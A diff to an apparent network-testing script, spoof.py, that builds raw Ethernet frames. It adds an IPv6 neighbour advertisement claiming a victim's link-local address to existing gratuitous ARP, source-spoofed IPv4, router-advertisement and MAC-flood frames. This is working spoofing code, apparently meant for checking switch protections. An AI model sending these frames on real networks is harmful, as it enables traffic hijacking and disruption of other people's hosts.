@@ -7,7 +7,8 @@ spoof.py steal IFACE OWN_MAC OWN_IP VICTIM_MAC VICTIM_IP SECONDS
     arp: a gratuitous ARP from our own MAC claiming the victim's address, and one whose
          sender hardware address is the victim's;
     ip:  IPv4 from our own MAC with the victim's address as source;
-    nd:  an IPv6 router advertisement from our own link-local address;
+    nd:  an IPv6 router advertisement from our own link-local address, and a neighbour
+         advertisement claiming the victim's link-local address;
     ethertype: a frame of a local experimental ethertype (0x88b5).
 spoof.py flood IFACE COUNT
     COUNT frames, each from a new random (unicast, locally administered) source MAC, of a
@@ -64,6 +65,15 @@ def router_advert(src_mac):
     return b"\x33\x33\x00\x00\x00\x01" + src_mac + b"\x86\xdd" + header + icmp
 
 
+def neighbour_advert(src_mac, target_mac):
+    # Solicited+override NA for the target's link-local address, sent from our own one.
+    icmp = struct.pack("!BBHI", 136, 0, 0, 0x60000000) + link_local(target_mac)
+    icmp += struct.pack("!BB", 2, 1) + src_mac
+    dst = b"\xff\x02" + b"\0" * 13 + b"\x01"
+    header = struct.pack("!IHBB", 6 << 28, len(icmp), 58, 255) + link_local(src_mac) + dst
+    return b"\x33\x33\x00\x00\x00\x01" + src_mac + b"\x86\xdd" + header + icmp
+
+
 def main():
     mode, iface = sys.argv[1], sys.argv[2]
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
@@ -79,6 +89,7 @@ def main():
             arp(own_mac, victim_mac, own_ip, own_ip),
             udp4(own_mac, victim_ip, ip4("255.255.255.255")),
             router_advert(own_mac),
+            neighbour_advert(own_mac, victim_mac),
             BROADCAST + own_mac + b"\x88\xb5" + b"\0" * 46,
         ]
         deadline = time.monotonic() + float(sys.argv[7])
